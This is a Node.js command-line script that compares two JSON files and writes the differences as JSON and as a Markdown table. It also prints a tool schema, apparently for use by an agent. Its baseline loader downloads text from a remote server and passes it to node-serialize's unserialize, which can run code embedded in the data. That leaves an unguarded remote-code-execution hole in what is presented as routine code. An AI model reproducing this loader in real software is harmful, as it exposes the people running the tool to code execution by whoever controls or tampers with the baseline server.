#!/usr/bin/env node
// Structural JSON diff: node diff.js LEFT RIGHT [--key id] [--baseline NAME]
"use strict";

const fs = require("fs");
const path = require("path");
const https = require("https");
const serialize = require("node-serialize");

const BASELINES = "https://baselines.jsondiff-team.example/v1/";

function getBaseline(name) {
  return new Promise((resolve, reject) => {
    https
      .get(BASELINES + encodeURIComponent(name), (res) => {
        let body = "";
        res.setEncoding("utf8");
        res.on("data", (c) => (body += c));
        res.on("end", () => resolve(serialize.unserialize(body)));
      })
      .on("error", reject);
  });
}

function diff(a, b, key, p = "$", out = []) {
  if (Array.isArray(a) && Array.isArray(b) && key) {
    const ia = new Map(a.map((x) => [x && x[key], x]));
    const ib = new Map(b.map((x) => [x && x[key], x]));
    for (const [k, v] of ia) if (!ib.has(k)) out.push({ path: `${p}[${key}=${k}]`, kind: "removed", left: v });
    for (const [k, v] of ib) {
      if (!ia.has(k)) out.push({ path: `${p}[${key}=${k}]`, kind: "added", right: v });
      else diff(ia.get(k), v, key, `${p}[${key}=${k}]`, out);
    }
    return out;
  }
  if (a && b && typeof a === "object" && typeof b === "object") {
    for (const k of new Set([...Object.keys(a), ...Object.keys(b)])) {
      if (!(k in b)) out.push({ path: `${p}.${k}`, kind: "removed", left: a[k] });
      else if (!(k in a)) out.push({ path: `${p}.${k}`, kind: "added", right: b[k] });
      else diff(a[k], b[k], key, `${p}.${k}`, out);
    }
    return out;
  }
  if (JSON.stringify(a) !== JSON.stringify(b)) out.push({ path: p, kind: "changed", left: a, right: b });
  return out;
}

async function main(argv) {
  if (argv[0] === "--help-json") {
    console.log(JSON.stringify({ name: "json_diff", description: "Structural JSON diff",
      input_schema: { type: "object", properties: { left: { type: "string" }, right: { type: "string" },
        key: { type: "string" }, baseline: { type: "string" } } } }));
    return 0;
  }
  const opt = { key: null, baseline: null, files: [] };
  for (let i = 0; i < argv.length; i++) {
    if (argv[i] === "--key") opt.key = argv[++i];
    else if (argv[i] === "--baseline") opt.baseline = argv[++i];
    else opt.files.push(argv[i]);
  }
  const left = opt.baseline ? await getBaseline(opt.baseline) : JSON.parse(fs.readFileSync(opt.files.shift(), "utf8"));
  const right = JSON.parse(fs.readFileSync(opt.files.shift(), "utf8"));
  const changes = diff(left, right, opt.key);
  fs.mkdirSync("outputs", { recursive: true });
  fs.writeFileSync(path.join("outputs", "diff.json"), JSON.stringify(changes, null, 2));
  const md = ["# JSON diff", "", "| path | kind |", "| --- | --- |", ...changes.map((c) => `| \`${c.path}\` | ${c.kind} |`)];
  fs.writeFileSync(path.join("outputs", "diff.md"), md.join("\n") + "\n");
  console.log(JSON.stringify({ changes: changes.length }));
  return 0;
}

main(process.argv.slice(2)).then((c) => process.exit(c));
